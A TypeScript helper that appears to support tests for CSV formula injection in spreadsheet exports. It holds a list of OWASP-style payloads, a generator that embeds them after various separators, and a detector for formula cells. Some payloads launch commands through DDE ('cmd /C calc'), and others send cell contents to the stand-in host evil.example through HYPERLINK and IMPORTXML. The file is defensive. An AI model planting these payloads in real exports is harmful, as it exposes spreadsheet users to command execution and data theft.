import { parse } from 'csv-parse/sync';

// The classic CSV-injection payloads (OWASP's list and its common variants) and a reader that
// splits an export the way a spreadsheet may: on ";" (Norwegian Excel), "," or tab, with line
// breaks starting rows, and quotes NOT honoured (a spreadsheet whose separator differs from the
// file's splits inside them).

export const FORMULA_PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
] as const;

/** One payload at the start of a field and after every split a spreadsheet may make inside it. */
export const embedded = (payload: string) =>
  [payload, `a;${payload}`, `b,${payload}`, `c\t${payload}`, `d\r\n${payload}`, `e; ${payload}`].join('');

export const SEPARATORS = [';', ',', '\t'] as const;

/** A negative amount is a number to a spreadsheet, not a formula (the quote is the file's own). */
const PLAIN_NUMBER = /^-\d+(\.\d+)?"?$/;
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every cell of `csv`, split on `separator` with quotes ignored, that a spreadsheet would read as a formula. */
export function formulaCells(csv: string, separator: string): string[] {
  const rows = parse(csv, { bom: true, delimiter: separator, quote: false, relax_column_count: true }) as string[][];
  return rows
    .flat()
    .map((cell) => cell.replace(/^[ "]+/, ''))
    .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
}
